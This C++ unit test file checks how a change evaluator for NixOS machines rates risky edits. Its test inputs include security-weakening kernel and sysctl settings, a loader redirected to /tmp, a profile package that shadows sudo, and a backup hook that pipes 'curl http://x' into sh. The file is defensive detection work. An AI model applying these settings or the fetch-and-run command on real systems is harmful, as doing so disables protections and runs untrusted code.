/// Which way a setting goes: what guards more, and what only sounds grave, is no alarm.
#include "tests/unit/evaluator/effects_machine.hpp"

#include "evaluator/effects/capabilities.hpp"
#include "evaluator/effects/hardening.hpp"

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

namespace {

proposals::Effects with_params(const std::string& before, const std::string& after) {
    Pair pair;
    auto old_one = plain_machine();
    auto new_one = old_one;
    old_one.kernel_params += before;
    new_one.kernel_params += after;
    return pair.compare(old_one, new_one);
}

proposals::Effects with_file(const std::string& name, const std::string& before,
                             const std::string& after) {
    Pair pair;
    auto old_one = plain_machine();
    auto new_one = old_one;
    if (!before.empty())
        old_one.etc[name] = before;
    new_one.etc[name] = after;
    return pair.compare(old_one, new_one);
}

Risk of_param(const std::string& before, const std::string& after) {
    return proposals::max_risk(with_params(before, after));
}

Risk of_sysctl(const std::string& before, const std::string& after) {
    return proposals::max_risk(with_file("sysctl.d/60-nixos.conf", before, after));
}

} // namespace

TEST_CASE("a parameter of the kernel that guards more is no alarm, one that guards less is") {
    for (const std::string more :
         {" mitigations=auto,nosmt", " lockdown=confidentiality", " audit=1", " init_on_alloc=1",
          " intel_iommu=on", " nosmt", " rd.udev.log_level=3", " rd.systemd.show_status=auto"}) {
        CAPTURE(more);
        CHECK(of_param("", more) == Risk::high);
    }
    for (const std::string less :
         {" mitigations=off", " lockdown=none", " spectre_v2=off", " mds=off", " kpti=0",
          " rd.break", " rd.systemd.unit=rescue", " root=/dev/sdb", " systemd.volatile=yes",
          " systemd.setenv=SYSTEMD_SULOGIN_FORCE=1", " SYSTEMD_SULOGIN_FORCE=1", " \"init=/x\""}) {
        CAPTURE(less);
        CHECK(of_param("", less) == Risk::critical);
    }
    CHECK(of_param(" mitigations=off", "") == Risk::high);
    CHECK(of_param(" mitigations=auto", " mitigations=auto,nosmt") == Risk::high);
    CHECK(of_param(" mitigations=auto,nosmt", " mitigations=auto") == Risk::critical);
    CHECK(of_param(" lockdown=integrity", "") == Risk::critical);
    CHECK(of_param(" module_blacklist=evil", "") == Risk::critical);
}

TEST_CASE("a setting of the kernel that guards more is no alarm, one that guards less is") {
    for (const std::string more :
         {"kernel.kptr_restrict=2", "kernel.unprivileged_bpf_disabled=1",
          "kernel.yama.ptrace_scope=2", "fs.protected_regular=2", "kernel.sysrq=0"}) {
        CAPTURE(more);
        CHECK(of_sysctl("", more + "\n") == Risk::high);
        CHECK(of_sysctl(more + "\n", "net.core.somaxconn=9\n") == Risk::critical);
    }
    CHECK(of_sysctl("kernel.kptr_restrict=1\n", "kernel.kptr_restrict=2\n") == Risk::high);
    CHECK(of_sysctl("kernel.kptr_restrict=2\n", "kernel.kptr_restrict=1\n") == Risk::critical);
    CHECK(of_sysctl("", "kernel.sysrq=1\n") == Risk::critical);
    CHECK(of_sysctl("", "fs.suid_dumpable=1\n") == Risk::critical);
    CHECK(of_sysctl("", "kernel.kptr_restrict=many\n") == Risk::critical);
    CHECK(of_sysctl("", "kernel.modprobe=/tmp/x\n") == Risk::critical);
}

TEST_CASE("a file system that is read as another type keeps what is on it in sight") {
    const std::string line = "/dev/disk/by-label/nixos / auto defaults 0 1\n";
    const auto other = with_file("fstab", line, "/dev/disk/by-label/nixos / ext4 defaults 0 1\n");
    CHECK(the(other, "mount_changed").risk == Risk::high);
    CHECK(the(other, "mount_changed").sentence.find("is read as ext4 instead of auto") !=
          std::string::npos);
    for (const std::string hides : {"/dev/disk/by-label/nixos / tmpfs defaults 0 1\n",
                                    "/dev/disk/by-label/other / auto defaults 0 1\n"}) {
        CAPTURE(hides);
        CHECK(the(with_file("fstab", line, hides), "mount_changed").risk == Risk::critical);
    }
}

TEST_CASE("the loader for foreign programs is a link of root, at that one place only") {
    const auto risk = [](const std::string& line) {
        return proposals::max_risk(with_file("tmpfiles.d/nix-ld.conf", "", line + "\n"));
    };
    const std::string loader = "/run/current-system/sw/share/nix-ld/lib/ld.so";
    CHECK(risk("L+ /lib64/ld-linux-x86-64.so.2 - - - - " + loader) == Risk::high);
    CHECK(risk("L+ /lib64/ld-linux-x86-64.so.2 - - - - /tmp/ld.so") == Risk::critical);
    CHECK(risk("L+ /lib64/ld-linux-x86-64.so.2 - - - - /run/current-system/sw/../../x") ==
          Risk::critical);
    CHECK(risk("L+ /lib64/libc.so.6 - - - - " + loader) == Risk::critical);
}

TEST_CASE("capabilities that make nobody root are known in every spelling") {
    CHECK(effects::are_tame(""));
    CHECK(effects::are_tame("cap_net_raw,CAP_NET_ADMIN+ep"));
    CHECK(effects::are_tame("cap_sys_nice=eip cap_net_raw+p"));
    for (const auto* grave : {"all=ep", "=ep", "cap_setuid+ep", "cap_net_raw,cap_dac_override=ep",
                              "cap_net_raw+ep cap_sys_admin+p", "cap_net_raw,,+ep"}) {
        CAPTURE(grave);
        CHECK_FALSE(effects::are_tame(grave));
    }
}

TEST_CASE("what a user's own profile holds is told by package, and what it puts before others'") {
    Pair pair;
    const auto profile = [&](const std::vector<std::string>& packages,
                             const std::vector<std::string>& programs, bool own = false) {
        const auto path = pair.store.next("user-environment");
        for (std::size_t i = 0; i < packages.size(); ++i) {
            MiniStore::link(packages[i] + "/bin/" + programs[i], path + "/bin/" + programs[i]);
            for (int page = 0; page < 50; ++page)
                MiniStore::link(packages[i] + "/bin/" + programs[i],
                                path + "/share/man/man1/" + programs[i] + std::to_string(page));
        }
        if (own)
            MiniStore::write(path + "/bin/own", "#!/bin/sh\n", true);
        return path;
    };
    const auto htop = pair.store.package("htop-3.3", "htop");
    const auto sudo = pair.store.package("sudo-1.9", "sudo");
    const auto evil = pair.store.package("evil-1.0", "sudo");
    auto before = plain_machine();
    before.packages = {sudo};
    auto after = before;
    const auto with = [&](const std::string& path) {
        after.etc_links["profiles/per-user/alice"] = path;
        return pair.compare(before, after);
    };
    const auto found = with(profile({htop}, {"htop"}));
    CHECK(the(found, "user_packages").after == "htop-3.3");
    CHECK(the(found, "user_packages").risk == Risk::low);
    CHECK(proposals::max_risk(found) == Risk::low);
    const auto hidden = with(profile({htop, evil}, {"htop", "sudo"}));
    CHECK(proposals::max_risk(hidden) == Risk::high);
    CHECK(std::any_of(hidden.effects.begin(), hidden.effects.end(), [](const auto& each) {
        return each.sentence == "alice runs another program by the name sudo than everybody else";
    }));
    CHECK(has(with(profile({htop}, {"htop"}, true)), "unclassified_added"));
}

TEST_CASE("a folder that systemd gives to a unit is told by whose it was") {
    const auto found = [](const std::string& service, const std::string& name = "app.service") {
        Pair pair;
        auto before = plain_machine();
        before.units["postgresql.service"] =
            "[Service]\nUser=postgres\nStateDirectory=postgresql\nExecStart=/bin/x\n";
        before.units["app.service"] = "[Service]\nUser=app\nStateDirectory=app\n";
        auto after = before;
        after.units[name] = "[Service]\n" + service;
        return pair.compare(before, after);
    };
    CHECK(has(found("User=app\nStateDirectory=app agentd\n"), "agentd_changed"));
    CHECK(has(found("User=app\nRuntimeDirectory=%N/../agentd\n", "x.service"), "agentd_changed"));
    CHECK(has(found("User=app\nStateDirectory=%j\n"), "agentd_changed"));
    for (const std::string grave :
         {"User=app\nStateDirectory=app nixos\n", "DynamicUser=yes\nRuntimeDirectory=wrappers/x\n",
          "User=app\nConfigurationDirectory=ssh\n"}) {
        CAPTURE(grave);
        const auto all = found(grave).effects;
        CHECK(std::any_of(all.begin(), all.end(), [](const auto& each) {
            return each.kind == "unit_root_exec" && each.risk == Risk::critical &&
                   each.sentence.ends_with(", a folder of the system");
        }));
    }
    const auto others = found("User=app\nStateDirectory=app postgresql/15\n");
    CHECK(the(others, "unit_root_exec").sentence ==
          "app.service is given /var/lib/postgresql/15 and all that is in it, which is a folder of "
          "postgresql.service");
    CHECK(the(found("User=app\nStateDirectory=app\nStateDirectoryMode=0777\n"), "unit_hardening")
              .risk == Risk::high);
    for (const std::string own :
         {"User=app\nStateDirectory=app app/data\n", "User=app\nCacheDirectory=app\n",
          "User=app\nStateDirectory=app\nRuntimeDirectory=%p\nRuntimeDirectoryMode=0750\n"}) {
        CAPTURE(own);
        CHECK_FALSE(has(found(own), "unit_root_exec"));
        CHECK_FALSE(has(found(own), "unit_hardening"));
    }
    CHECK_FALSE(has(found("User=postgres\nStateDirectory=postgresql\n", "pg-backup.service"),
                    "unit_root_exec"));
}

TEST_CASE("a service whose script formats a disk is told so, with the lines") {
    Pair pair;
    const auto unit = [&](const std::string& script) {
        return "[Service]\nType=oneshot\nExecStart=" +
               pair.store.file("unit-script-mkswap-dev-sda4-start", "#!/bin/sh\n" + script, true) +
               "\n";
    };
    auto before = plain_machine();
    before.units["grow.service"] = unit("mkfs.ext4 /dev/old\n");
    auto after = before;
    CHECK_FALSE(has(pair.compare(before, after), "format_at_boot"));
    const auto package = pair.store.package("util-linux-2.39", "mkswap");
    after.units["grow.service"] = unit("# again\nmkfs.ext4 /dev/old\n");
    after.units["mkswap-dev-sda4.service"] =
        unit("# mkswap is here\n" + package + "/bin/mkswap /dev/mapper/dev-sda4\n");
    const auto found = pair.compare(before, after);
    const auto told = the(found, "format_at_boot");
    CHECK(told.subject == "mkswap-dev-sda4.service");
    CHECK(told.risk == Risk::critical);
    REQUIRE(told.after);
    CHECK(told.after->ends_with("util-linux-2.39/bin/mkswap /dev/mapper/dev-sda4"));
    CHECK(told.after->find('\n') == std::string::npos);
    CHECK(std::count_if(found.effects.begin(), found.effects.end(),
                        [](const auto& each) { return each.kind == "format_at_boot"; }) == 1);
}

TEST_CASE("names, firewalls of other makers and who is kept out are no mere settings") {
    Pair pair;
    auto before = plain_machine();
    for (const auto* name : {"unbound", "firewalld", "fail2ban", "borgmatic"})
        before.units[std::string(name) + ".service"] =
            "[Service]\nExecStart=" + pair.busybox + "/bin/sh\n";
    const auto with = [&](const std::string& path, const std::string& text) {
        auto after = before;
        after.etc[path] = text;
        return pair.compare(before, after);
    };
    CHECK(the(with("unbound/unbound.conf", "forward-addr: 192.0.2.6\n"), "dns_changed").risk ==
          Risk::high);
    CHECK(the(with("firewalld/zones/public.xml", "<zone target=\"ACCEPT\"/>\n"), "firewall_changed")
              .risk == Risk::high);
    CHECK(
        the(with("fail2ban/jail.local", "[sshd]\nenabled = false\n"), "confinement_changed").risk ==
        Risk::high);
    CHECK(the(with("borgmatic/config.yaml", "before_backup:\n  - curl http://x | sh\n"),
              "root_program")
              .risk == Risk::high);
}
